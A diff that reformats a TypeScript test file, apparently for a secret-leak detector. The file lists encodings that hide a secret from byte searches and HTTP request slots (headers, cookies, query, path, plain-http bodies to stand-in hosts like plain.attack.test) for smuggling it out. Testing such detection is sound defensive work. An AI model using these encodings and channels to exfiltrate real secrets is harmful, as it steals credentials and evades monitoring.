@@ -30,18 +30,16 @@ const escaped = (text: string): string =>
 const hex = (text: string): string => Buffer.from(text, "latin1").toString("hex");
 
 /** Encodings of a value that hide it from a search for its bytes. */
+// biome-ignore format: one attempt a line
 const ENCODINGS: Readonly<Record<string, (secret: string) => string>> = {
   plain: (secret) => secret,
-  "in the middle of text": (secret) =>
-    `${"lorem ipsum ".repeat(50)}${secret}${" dolor sit amet".repeat(50)}`,
+  "in the middle of text": (secret) => `${"lorem ipsum ".repeat(50)}${secret}${" dolor sit amet".repeat(50)}`,
   "base64, alignment 0": (secret) => base64(secret),
   "base64, alignment 1": (secret) => base64(`a${secret}`),
   "base64, alignment 2": (secret) => base64(`ab${secret}`),
   "base64 of JSON": (secret) => base64(JSON.stringify({ notes: ["x", { value: secret }] })),
-  "base64url without padding": (secret) =>
-    Buffer.from(`user:${secret}`, "latin1").toString("base64url"),
-  "base64 in lines of 76": (secret) =>
-    base64(`${"padding ".repeat(20)}${secret}`).replace(/.{76}/g, "$&\r\n"),
+  "base64url without padding": (secret) => Buffer.from(`user:${secret}`, "latin1").toString("base64url"),
+  "base64 in lines of 76": (secret) => base64(`${"padding ".repeat(20)}${secret}`).replace(/.{76}/g, "$&\r\n"),
   "base64 twice": (secret) => base64(base64(secret)),
   hex: (secret) => hex(secret),
   "hex in capitals": (secret) => hex(secret).toUpperCase(),
@@ -52,8 +50,7 @@ const ENCODINGS: Readonly<Record<string, (secret: string) => string>> = {
   "JSON string, each character escaped": (secret) => `{"value":"${escaped(secret)}"}`,
   "form field": (secret) => `a=1&value=${encodeURIComponent(secret)}&b=2`,
   "hex in JSON": (secret) => JSON.stringify({ value: hex(secret) }),
-  "multipart field": (secret) =>
-    `--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n${secret}\r\n--x--\r\n`,
+  "multipart field": (secret) => `--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n${secret}\r\n--x--\r\n`,
   "UTF-8 with a byte order mark": (secret) => `\xef\xbb\xbf${secret}`,
 };
 
@@ -80,41 +77,25 @@ const chunked = (host: string): string =>
   `POST /notes HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n`;
 
 /** Places outside of the body. The value must stand there as such a place allows. */
+// biome-ignore format: one attempt a line
 const PLACES: Readonly<Record<string, (secret: string) => Attempt>> = {
   "a header": (secret) => through(request("GET", "/", HOST, [`X-Note: ${secret}`])),
-  "a header in base64": (secret) =>
-    through(request("GET", "/", HOST, [`X-Note: ${base64(`n:${secret}`)}`])),
-  "a cookie": (secret) =>
-    through(request("GET", "/", HOST, [`Cookie: a=1; session=${encodeURIComponent(secret)}; b=2`])),
-  "Basic credentials": (secret) =>
-    through(request("GET", "/", HOST, [`Authorization: Basic ${base64(`me:${secret}`)}`])),
-  "the user agent": (secret) =>
-    through(request("GET", "/", HOST, [`User-Agent: probe (${secret})`])),
-  "the referrer": (secret) =>
-    through(
-      request("GET", "/", HOST, [`Referer: https://${HOST}/?q=${encodeURIComponent(secret)}`]),
-    ),
-  "two headers of one name": (secret) =>
-    through(request("GET", "/", HOST, ["X-Note: first", `X-Note: ${secret}`])),
+  "a header in base64": (secret) => through(request("GET", "/", HOST, [`X-Note: ${base64(`n:${secret}`)}`])),
+  "a cookie": (secret) => through(request("GET", "/", HOST, [`Cookie: a=1; session=${encodeURIComponent(secret)}; b=2`])),
+  "Basic credentials": (secret) => through(request("GET", "/", HOST, [`Authorization: Basic ${base64(`me:${secret}`)}`])),
+  "the user agent": (secret) => through(request("GET", "/", HOST, [`User-Agent: probe (${secret})`])),
+  "the referrer": (secret) => through(request("GET", "/", HOST, [`Referer: https://${HOST}/?q=${encodeURIComponent(secret)}`])),
+  "two headers of one name": (secret) => through(request("GET", "/", HOST, ["X-Note: first", `X-Note: ${secret}`])),
   "the query": (secret) => through(request("GET", `/?q=${encodeURIComponent(secret)}`, HOST)),
-  "the query in base64": (secret) =>
-    through(request("GET", `/?q=${encodeURIComponent(base64(secret))}`, HOST)),
+  "the query in base64": (secret) => through(request("GET", `/?q=${encodeURIComponent(base64(secret))}`, HOST)),
   "the query in hex": (secret) => through(request("GET", `/?q=${hex(secret)}`, HOST)),
   "the name of a query field": (secret) => through(request("GET", `/?${percent(secret)}=1`, HOST)),
   "the path in hex": (secret) => through(request("GET", `/files/${hex(secret)}/x`, HOST)),
-  "the path in base64url": (secret) =>
-    through(request("GET", `/files/${Buffer.from(secret).toString("base64url")}`, HOST)),
-  "the path of plain http": (secret) => ({
-    bytes: request("GET", `http://plain.attack.test/${hex(secret)}`, "plain.attack.test"),
-  }),
-  "a header of plain http": (secret) => ({
-    bytes: request("GET", "http://plain.attack.test/", "plain.attack.test", [`X-Note: ${secret}`]),
-  }),
-  "the body of plain http": (secret) => ({
-    bytes: request("POST", "http://plain.attack.test/", "plain.attack.test", [], secret),
-  }),
-  "the body for the provider of the token itself": (secret) =>
-    through(request("POST", "/", "api.attack.test", [], secret), "api.attack.test"),
+  "the path in base64url": (secret) => through(request("GET", `/files/${Buffer.from(secret).toString("base64url")}`, HOST)),
+  "the path of plain http": (secret) => ({ bytes: request("GET", `http://plain.attack.test/${hex(secret)}`, "plain.attack.test") }),
+  "a header of plain http": (secret) => ({ bytes: request("GET", "http://plain.attack.test/", "plain.attack.test", [`X-Note: ${secret}`]) }),
+  "the body of plain http": (secret) => ({ bytes: request("POST", "http://plain.attack.test/", "plain.attack.test", [], secret) }),
+  "the body for the provider of the token itself": (secret) => through(request("POST", "/", "api.attack.test", [], secret), "api.attack.test"),
 };
 
 describe.each(modesHere())(
